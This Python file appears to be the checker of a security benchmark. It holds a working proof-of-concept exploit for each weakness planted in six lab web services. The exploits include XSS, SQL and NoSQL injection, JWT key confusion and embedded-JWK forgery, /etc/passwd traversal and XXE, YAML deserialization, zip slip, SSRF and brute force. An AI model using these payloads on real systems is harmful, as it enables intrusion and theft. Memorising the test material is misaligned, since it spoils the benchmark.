"""The exploits for the third set: one for each weakness, by service and name."""

import base64
import contextlib
import hmac
import io
import json
import re
import statistics
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import common
import httpx
import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

PROOFS = {}
SIGN_IN = {}
PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}


def proof(service, weakness):
    def register(function):
        PROOFS[service, weakness] = function
        return function

    return register


def sign_in(service):
    def register(function):
        SIGN_IN[service] = function
        return function

    return register


@contextlib.contextmanager
def called(host="127.0.0.1"):
    """A server of this machine; the list of the requests it gets, each its path and body, and how to wait for the first."""
    requests, arrived = [], threading.Event()

    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append((self.path, self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")))
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"inner")
            arrived.set()

        do_POST = do_GET  # noqa: N815 - as http.server has it

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer((host, 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{host}:{server.server_port}/", requests, arrived
    finally:
        server.shutdown()
        server.server_close()


def until(look, seconds=10):
    """What an answer shows once it shows it."""
    deadline = time.monotonic() + seconds
    while not (seen := look()) and time.monotonic() < deadline:
        time.sleep(0.1)
    return seen


# toolshed ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("toolshed")
def _(client, name, password=None):
    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]})
    client.cookies.clear()
    return {"Cookie": "; ".join(cookie.partition(";")[0] for cookie in answer.headers.get_list("set-cookie"))}


def form(client, path, caller, fields, token_of=None):
    """Send a form with the token of the caller's page, or of somebody else's."""
    token = re.search('name=form_token value="([^"]+)"', client.get("/account", headers=token_of or caller).text)[1]
    return client.post(path, data=fields | {"form_token": token}, headers=caller)


@proof("toolshed", "comment-link")
def _(client):
    form(client, "/tools/2/comments", client.as_("ann"), {"text": "Good", "website": "javascript:alert(1)"})
    return 'href="javascript:alert(1)"' in client.get("/tools/2").text


@proof("toolshed", "search-quote")
def _(client):
    return "var searched = '';alert(1);'';" in client.get("/tools", params={"q": "';alert(1);'"}).text


@proof("toolshed", "theme-cookie")
def _(client):
    return '<body class=""><img src=x onerror=alert(1)>' in client.get("/tools", headers={"Cookie": "theme=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"}).text


@proof("toolshed", "back-slashes")
def _(client):
    return client.get("/language", params={"to": "en", "back": "/\\elsewhere.example/"}).headers.get("location") == "/\\elsewhere.example/"


@proof("toolshed", "loan-read")
def _(client):
    return "Lent to ann" in client.get("/loans/1", headers=client.as_("ben")).text


@proof("toolshed", "loan-extend")
def _(client):
    form(client, "/loans/1/extend", client.as_("ben"), {"days": "27"})
    return "27 days" in client.get("/loans/1", headers=client.as_("ann")).text


@proof("toolshed", "token-anybody")
def _(client):
    ann = client.as_("ann")
    form(client, "/account", ann, {"phone": "0999 111"}, token_of=client.as_("ben"))
    return "0999 111" in client.get("/account", headers=ann).text


@proof("toolshed", "sessions-kept")
def _(client):
    first, second = client.as_("carol"), client.as_("carol")
    assert "is changed" in form(client, "/password", second, {"old": PASSWORD["carol"], "new": "aspen-Teapot-37"}).text
    assert client.get("/account", headers=second).status_code == 200
    return client.get("/account", headers=first).status_code == 200


@proof("toolshed", "password-poor")
def _(client):
    return "is changed" in form(client, "/password", client.as_("carol"), {"old": PASSWORD["carol"], "new": "1234"}).text


@proof("toolshed", "role-cookie")
def _(client):
    cookie = client.as_("ann")["Cookie"].partition(";")[0]
    return "ben@south.example" in client.get("/ledger", headers={"Cookie": f"{cookie}; role=admin"}).text


@proof("toolshed", "agent-sql")
def _(client):
    ann = client.as_("ann")
    return [form(client, "/loans", ann | {"User-Agent": agent}, {"tool": "2", "days": "2"}).status_code for agent in ("it's", "it''s")] == [500, 303]


@proof("toolshed", "login-timing")
def _(client):
    def median(names):
        return statistics.median(client.post("/login", data={"username": name, "password": "x"}).elapsed.total_seconds() for name in names)

    return median(["ann", "ben", "carol", "olga"]) > 4 * median(["anna", "benn", "carola", "olgo"])


# choir ------------------------------------------------------------------------------------------------------------------------------------


def choir_tokens(client, name):
    query = "mutation($u: String!, $p: String!) {login(username: $u, password: $p) {accessToken refreshToken}}"
    return client.ask(query, u=name, p=PASSWORD[name]).json()["data"]["login"]


@sign_in("choir")
def _(client, name):
    return {"Authorization": "Bearer " + choir_tokens(client, name)["accessToken"]}


@proof("choir", "member-fields")
def _(client):
    return "GB29NWBK60161331926801" in client.ask("{members {name iban}}", client.as_("ben")).text


@proof("choir", "song-sql")
def _(client):
    query = "query($filter: SongFilter) {songs(filter: $filter) {title}}"
    return "unfinished mass" in client.ask(query, client.as_("ann"), filter={"voices": ["alto", "x') OR 1=1 -- "]}).text


@proof("choir", "node-read")
def _(client):
    return "code" in client.ask('{node(id: "TWVzc2FnZTox") {text}}', client.as_("ben")).text


@proof("choir", "date-errors")
def _(client):
    return "Traceback" in client.ask('{rehearsals(since: "x") {day}}', client.as_("ann")).text


@proof("choir", "member-update")
def _(client):
    client.ask('mutation {updateMember(id: "ann", change: {phone: "0999 222"}) {id}}', client.as_("ben"))
    return "0999 222" in client.ask("{me {phone}}", client.as_("ann")).text


@proof("choir", "link-fetch")
def _(client):
    with called() as (url, requests, _):
        client.ask("mutation($message: NewMessage!) {sendMessage(message: $message) {id}}", client.as_("ann"), message={"to": ["olga"], "text": "x", "links": [url + "inner"]})
        return [path for path, _ in requests] == ["/inner"]


@proof("choir", "fee-waive")
def _(client):
    client.ask('mutation {waiveFee(member: "ann")}', client.as_("ann"))
    return "ann: 0" in client.ask("{fees}", client.as_("olga")).text


@proof("choir", "code-unlimited")
def _(client):
    client.ask('mutation {requestReset(email: "carol@east.example")}')
    query = 'mutation($c: String!) {resetPassword(email: "carol@east.example", code: $c, password: "aspen-Teapot-37")}'
    answers = [client.ask(query, c=f"{number:04}").text for number in range(100)]
    return all("too many" not in answer for answer in answers)


@proof("choir", "batch-open")
def _(client):
    answer = client.post("/graphql", json=[{"query": "{openingHours}"}] * 500)
    return answer.status_code == 200 and len(answer.json()) == 500


@proof("choir", "type-introspection")
def _(client):
    return "iban" in client.ask('{__type(name: "Member") {fields {name}}}').text


@proof("choir", "key-confused")
def _(client):
    numbers = client.get("/jwks.json").json()["keys"][0]
    pem = jwt.PyJWK(numbers).key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    claims = jwt.decode(choir_tokens(client, "ann")["accessToken"], options={"verify_signature": False}) | {"sub": "olga", "jti": "x"}
    head, body = (base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in ({"alg": "HS256", "typ": "JWT"}, claims))
    signature = base64.urlsafe_b64encode(hmac.digest(pem, head + b"." + body, "sha256")).rstrip(b"=")
    return "carol: 60" in client.ask("{fees}", {"Authorization": b"Bearer " + b".".join((head, body, signature))}).text


@proof("choir", "refresh-serves")
def _(client):
    return client.ask("{me {id}}", {"Authorization": "Bearer " + choir_tokens(client, "ann")["refreshToken"]}).json()["data"] is not None


# printshop --------------------------------------------------------------------------------------------------------------------------------


def print_job(client, caller, headers=None, **more):
    return client.post("/jobs", json={"title": "Fair"} | more, headers=caller | (headers or {}))


def first_job(client, name):
    return client.get("/jobs", headers=client.as_(name)).json()["jobs"][-1]["id"]


def job_result(client, caller, job):
    return until(lambda: (answer := client.get(f"/jobs/{job}/result", headers=caller)).status_code == 200 and answer.text, 5)


@proof("printshop", "job-result")
def _(client):
    return "door code" in (job_result(client, client.as_("ben"), first_job(client, "ann")) or "")


@proof("printshop", "job-cancel")
def _(client):
    job = first_job(client, "ann")
    client.post(f"/jobs/{job}/cancel", headers=client.as_("ben"))
    return client.get(f"/jobs/{job}", headers=client.as_("ann")).json()["state"] == "cancelled"


@proof("printshop", "title-template")
def _(client):
    ann = client.as_("ann")
    return "\nx 1922 y\n" in job_result(client, ann, print_job(client, ann, title="x {{31 * 62}} y").json()["id"])


@proof("printshop", "source-fetch")
def _(client):
    with called() as (url, requests, arrived):
        print_job(client, client.as_("ann"), source={"url": url + "inner"})
        arrived.wait(3)
        return [path for path, _ in requests] == ["/inner"]


@proof("printshop", "hook-secret")
def _(client):
    return "whsec_" in client.get("/hooks", headers=client.as_("ann")).text


@proof("printshop", "state-twice")
def _(client):
    answer = client.get("/jobs?state=done&state=done", headers=client.as_("ann"))
    return answer.status_code == 500 and "server.js" in answer.text


@proof("printshop", "cost-chosen")
def _(client):
    return print_job(client, client.as_("ann"), options={"copies": 5, "cost": 0.01}).json()["cost"] == 0.01


@proof("printshop", "sheet-outside")
def _(client):
    return "root:x:0:0" in client.get("/sheets/..%2f..%2f..%2fetc%2fpasswd").text


@proof("printshop", "copies-negative")
def _(client):
    return print_job(client, client.as_("ann"), options={"copies": -50}).json().get("cost") == -5


@proof("printshop", "idempotency-shared")
def _(client):
    keys = {"Idempotency-Key": "order-1"}
    print_job(client, client.as_("ann"), keys, title="Secret of ann")
    return "Secret of ann" in print_job(client, client.as_("ben"), keys, title="Other").text


@proof("printshop", "bodies-open")
def _(client):
    return print_job(client, client.as_("ann"), options={"note": "x" * 3_000_000}).status_code == 202


@proof("printshop", "login-case")
def _(client):
    names = [f"{'' if number < 8 else ' '}{'Aa'[number & 1]}{'Nn'[number >> 1 & 1]}{'Nn'[number >> 2 & 1]}" for number in range(16)]
    return {client.post("/login", json={"username": name, "password": "x"}).status_code for name in names} == {401}


@sign_in("printshop")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/login", json={"username": name, "password": PASSWORD[name]}).json()["token"]}


# estates ----------------------------------------------------------------------------------------------------------------------------------


@sign_in("estates")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/sign-in", json={"login": {"name": name, "password": PASSWORD[name]}}).json()["session"]["token"]}


def north_unit(client):
    return client.get("/north/units", headers=client.as_("ann")).json()["units"][0]["id"]


@proof("estates", "tenant-path")
def _(client):
    return "door_code" in client.get("/north/units", headers=client.as_("ben")).text


@proof("estates", "bulk-read")
def _(client):
    return "door_code" in client.post("/south/units/lookup", json={"ids": [north_unit(client)]}, headers=client.as_("ben")).text


@proof("estates", "unit-tenant")
def _(client):
    unit, ann = north_unit(client), client.as_("ann")
    client.patch(f"/north/units/{unit}", json={"name": "x", "tenant": "south"}, headers=ann)
    return unit in client.get("/south/units", headers=client.as_("ben")).text


@proof("estates", "where-operators")
def _(client):
    return "door_code" in client.post("/north/units/search", json={"where": {"city": {"$ne": "x"}}}, headers=client.as_("ann")).text


@proof("estates", "invite-role")
def _(client):
    return client.post("/north/invitations", json={"email": "a@b.example", "role": "admin"}, headers=client.as_("ann")).status_code == 201


@proof("estates", "deep-attributes")
def _(client):
    body = '{"name": "x", "attributes": ' + '{"a": ' * 40 + "1" + "}" * 41
    with contextlib.suppress(httpx.HTTPError):
        client.post("/north/units", content=body, headers=client.as_("ann") | {"Content-Type": "application/json"})
    return bool(until(lambda: client.process.poll() is not None, 2))


@proof("estates", "reference-pattern")
def _(client):
    return client.post("/north/units", json={"name": "x", "reference": "a" * 40 + "!"}, headers=client.as_("ann"), timeout=200).elapsed.total_seconds() > 1.5


@proof("estates", "method-override")
def _(client):
    unit, ann = north_unit(client), client.as_("ann")
    client.post(f"/north/units/{unit}", headers=ann | {"X-HTTP-Method-Override": "DELETE"})
    return client.get(f"/north/units/{unit}", headers=ann).status_code == 404


@proof("estates", "jwk-embedded")
def _(client):
    claims = jwt.decode(client.as_("ann")["Authorization"].partition(" ")[2], options={"verify_signature": False}) | {"sub": "olga"}
    key = ec.generate_private_key(ec.SECP256R1())
    public = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(key.public_key()))
    forged = jwt.encode(claims, key, "ES256", headers={"jwk": public})
    return client.get("/platform/tenants", headers={"Authorization": f"Bearer {forged}"}).status_code == 200


@proof("estates", "cors-null")
def _(client):
    headers = client.get("/version", headers={"Origin": "null"}).headers
    return (headers.get("access-control-allow-origin"), headers.get("access-control-allow-credentials")) == ("null", "true")


@proof("estates", "invoice-paid")
def _(client):
    ann = client.as_("ann")
    lines = [{"text": "Rent", "amount": 640, "paid": True}]
    return client.post("/north/invoices", json={"unit_id": north_unit(client), "lines": lines}, headers=ann).json()["lines"][0]["paid"] is True


@proof("estates", "export-formula")
def _(client):
    ann = client.as_("ann")
    client.post("/north/units", json={"name": "=1+2"}, headers=ann)
    return '"=1+2"' in client.get("/north/export", headers=ann).text


# orchard ----------------------------------------------------------------------------------------------------------------------------------


@sign_in("orchard")
def _(client, name, password=None):
    fields = {"grant_type": "password", "username": name, "password": password or PASSWORD[name]}
    return {"Authorization": "Bearer " + client.post("/oauth/token", data=fields).json().get("access_token", "none")}


def bring(client, caller, **more):
    return client.post("/harvests", json={"fruit": "pears", "kilos": 4} | more, headers=caller)


@proof("orchard", "label-script")
def _(client):
    ann = client.as_("ann")
    harvest = bring(client, ann, remark="<script>alert(1)</script>").json()["id"]
    return "<script>alert(1)</script>" in client.get(f"/harvests/{harvest}/label", headers=ann).text


@proof("orchard", "harvest-read")
def _(client):
    return "barn" in client.get(f"/harvests/{client.listed('/harvests', 'ann', 'harvests')}", headers=client.as_("ben")).text


@proof("orchard", "grade-set")
def _(client):
    ann = client.as_("ann")
    harvest = bring(client, ann).json()["id"]
    return client.put(f"/harvests/{harvest}", json={"fruit": "pears", "kilos": 4, "grade": "A"}, headers=ann).json()["grade"] == "A"


@proof("orchard", "office-open")
def _(client):
    return '"ben"' in client.get("/office/harvests", headers=client.as_("ann")).text


@proof("orchard", "revoke-kept")
def _(client):
    ann = client.as_("ann")
    assert client.post("/oauth/revoke", headers=ann).status_code == 204
    return client.get("/me", headers=ann).status_code == 200


@proof("orchard", "host-forwarded")
def _(client):
    return "https://elsewhere.example/" in bring(client, client.as_("ann") | {"X-Forwarded-Host": "elsewhere.example"}).text


@proof("orchard", "price-callback")
def _(client):
    answer = client.get("/prices", params={"callback": "<script>alert(1)</script>"})
    return "<script>alert(1)</script>" in answer.text and "html" in answer.headers["content-type"]


@proof("orchard", "fruit-inherited")
def _(client):
    return bring(client, client.as_("ann"), fruit="constructor").status_code == 500


@proof("orchard", "sort-code")
def _(client):
    slow = client.get("/harvests", params={"sort": "kilos + (() => {const end = Date.now() + 1500; while (Date.now() < end);})()"}, headers=client.as_("ann"))
    return slow.status_code == 200 and slow.elapsed.total_seconds() > 1.4


@proof("orchard", "admin-default")
def _(client):
    return client.get("/office/harvests", headers=SIGN_IN["orchard"](client, "admin", "admin")).status_code == 200


# scores -----------------------------------------------------------------------------------------------------------------------------------


@sign_in("scores")
def _(client, name):
    return {"X-Session": client.post("/sessions", json={"username": name, "password": PASSWORD[name]}).headers["x-session"]}


def send_score(client, caller, content, media="application/xml"):
    return client.post("/scores", data={"title": "x"}, files={"file": ("a.xml", content, media)}, headers=caller)


def send_bundle(client, caller, name, content):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return client.post("/bundles", files={"file": ("a.zip", packed.getvalue(), "application/zip")}, headers=caller)


@proof("scores", "pen-sql")
def _(client):
    ann = client.as_("ann")
    client.put("/me", json={"pen_name": "x' OR '1'='1"}, headers=ann)
    return "Sonata no. 4" in client.get("/earnings", headers=ann).text


@proof("scores", "meta-entities")
def _(client):
    content = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><work-title>&x;</work-title></a>'
    return "root:x:0:0" in send_score(client, client.as_("ann"), content).text


@proof("scores", "part-type")
def _(client):
    ann = client.as_("ann")
    score = send_score(client, ann, "<html><script>alert(1)</script></html>", "text/html").json()["id"]
    answer = client.get(f"/scores/{score}/file", headers=ann)
    return answer.headers["content-type"] == "text/html" and "script" in answer.text


@proof("scores", "score-replace")
def _(client):
    ann = client.as_("ann")
    score = client.listed("/scores", "ann", "scores")
    client.put(f"/scores/{score}/file", content="of ben", headers=client.as_("ben"))
    return client.get(f"/scores/{score}/file", headers=ann).text == "of ben"


@proof("scores", "bundle-slip")
def _(client):
    send_bundle(client, client.as_("ann"), "../../assets/logo.txt", "of ann")
    return client.get("/assets/logo.txt").text == "of ann"


@proof("scores", "bundle-bomb")
def _(client):
    return send_bundle(client, client.as_("ann"), "a.txt", bytes(20_000_000)).status_code == 201


@proof("scores", "template-outside")
def _(client):
    ann = client.as_("ann")
    client.post("/templates", json={"name": "../../assets/logo.txt", "text": "of ann"}, headers=ann)
    return client.get("/assets/logo.txt").text == "of ann" and "root:x:0:0" in client.get("/templates?name=../../../etc/passwd", headers=ann).text


@proof("scores", "settings-yaml")
def _(client):
    body = "paper: !!python/object/apply:time.sleep [1.5]"
    return client.post("/settings", content=body, headers=client.as_("ann") | {"Content-Type": "application/yaml"}).elapsed.total_seconds() > 1.4


@proof("scores", "share-counted")
def _(client):
    score = client.listed("/scores", "ann", "scores")
    first, second = (int(token) if token.isdigit() else 0 for token in (client.post(f"/scores/{score}/share", headers=client.as_("ann")).json()["token"] for _ in range(2)))
    return second - first == 1


@proof("scores", "remote-user")
def _(client):
    return client.get("/office/works", headers={"X-Remote-User": "olga"}).status_code == 200
